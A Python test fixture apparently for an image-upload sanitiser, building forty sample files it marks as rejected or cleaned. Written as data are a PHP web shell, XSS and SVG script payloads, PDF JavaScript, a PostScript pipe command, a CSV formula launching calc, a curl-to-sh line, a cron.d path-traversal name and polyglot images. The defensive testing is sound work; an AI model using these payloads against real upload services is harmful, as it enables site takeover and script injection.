"""Forty files that somebody might upload as a picture: documents, programs, polyglots, broken ones, and a few good."""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple

from PIL import Image

#: Stands in every file that carries anything beside its pixels; it may come out nowhere.
MARK = b"MARK-4711-SMUGGLED"
_SCRIPT = b"<script>alert('" + MARK + b"')</script>"
_PHP = b"<?php system($_GET[0]); /*" + MARK + b"*/ ?>"


class File(NamedTuple):
    name: str
    data: bytes
    taken: bool


def corpus() -> list[File]:
    return [
        *_drawings(),
        *_web(),
        *_documents(),
        *_other_pictures(),
        *_programs(),
        *_broken(),
        *_moving(),
        *_good(),
    ]


def _drawings() -> Iterator[File]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + _SCRIPT + b"</svg>"
    yield File("drawing.svg", svg, taken=False)
    yield File("drawing.jpg", svg, taken=False)
    yield File("declared.svg", b'<?xml version="1.0"?><!DOCTYPE svg>' + svg, taken=False)
    yield File("squeezed.svgz", _gzip(svg), taken=False)


def _web() -> Iterator[File]:
    yield File("page.jpg", b"<!DOCTYPE html><html><body>" + _SCRIPT, taken=False)
    yield File("page.html", b"<html>" + _SCRIPT, taken=False)
    yield File("script.gif", b"GIF89a/*" + MARK + b"*/=1;alert(1)//", taken=False)
    yield File("style.css", b"body{background:url(javascript:1)}" + MARK, taken=False)


def _documents() -> Iterator[File]:
    pdf = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>" + MARK
    yield File("document.pdf", pdf, taken=False)
    yield File("document.jpg", pdf, taken=False)
    yield File("print.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file" + MARK, taken=False)
    yield File("dos.eps", b"\xc5\xd0\xd3\xc6" + bytes(28) + MARK, taken=False)
    yield File("layers.psd", b"8BPS\0\1" + bytes(20) + MARK, taken=False)
    yield File("archive.zip", _zip({"a.txt": MARK}), taken=False)
    yield File("office.docx", _zip({"word/document.xml": b"<w/>" + MARK}), taken=False)
    yield File("comma.csv", b"=cmd|'/c calc'!A1," + MARK, taken=False)


def _other_pictures() -> Iterator[File]:
    for format, name in (
        ("BMP", "a.bmp"),
        ("TIFF", "a.tif"),
        ("ICO", "a.ico"),
        ("PPM", "a.ppm"),
        ("TGA", "a.tga"),
    ):
        yield File(name, _saved(format), taken=False)
    yield File("phone.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + MARK, taken=False)


def _programs() -> Iterator[File]:
    yield File("shell.php.jpg", _PHP, taken=False)
    yield File("windows.jpg", b"MZ" + bytes(62) + MARK, taken=False)
    yield File("elf.png", b"\x7fELF" + bytes(60) + MARK, taken=False)
    yield File("shell.sh", b"#!/bin/sh\ncurl example.org|sh #" + MARK, taken=False)


def _broken() -> Iterator[File]:
    yield File("empty.jpg", b"", taken=False)
    for format, name in (("JPEG", "cut.jpg"), ("PNG", "cut.png"), ("WEBP", "cut.webp")):
        data = _saved(format)
        yield File(name, data[: len(data) // 2], taken=False)
    yield File("header-only.png", _saved("PNG")[:33], taken=False)


def _moving() -> Iterator[File]:
    frames = [Image.new("RGB", (64, 64), colour) for colour in ("red", "blue")]
    for format, name in (("GIF", "moving.gif"), ("PNG", "moving.png"), ("WEBP", "moving.webp")):
        yield File(name, _saved(format, frames[0], save_all=True, append_images=frames[1:]), taken=False)


def _good() -> Iterator[File]:
    """Pictures that are pictures, and something else besides: taken, and what else they are is gone."""
    yield File("../../etc/cron.d/tail.php.jpg", _saved("JPEG") + _PHP, taken=True)
    yield File("zip-behind.png", _saved("PNG") + _zip({"x.html": _SCRIPT}), taken=True)
    yield File("comment.jpg", _saved("JPEG", comment=_SCRIPT), taken=True)
    yield File("chunk.png", _with_chunk(_saved("PNG"), b"tEXt", b"Comment\0" + _PHP), taken=True)
    yield File("exif.webp", _saved("WEBP", exif=b"Exif\0\0" + _SCRIPT), taken=True)
    yield File("script-behind.gif", _saved("GIF") + _SCRIPT, taken=True)


def _photo() -> Image.Image:
    return Image.merge("RGB", [Image.effect_noise((600, 400), sigma) for sigma in (40, 60, 80)])


def _saved(format: str, image: Image.Image | None = None, **options: object) -> bytes:
    out = io.BytesIO()
    picture = image or _photo()
    (picture.resize((48, 48)) if format == "ICO" else picture).save(out, format, **options)
    return out.getvalue()


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data)


def _with_chunk(png: bytes, kind: bytes, data: bytes) -> bytes:
    chunk = struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return png[:33] + chunk + png[33:]
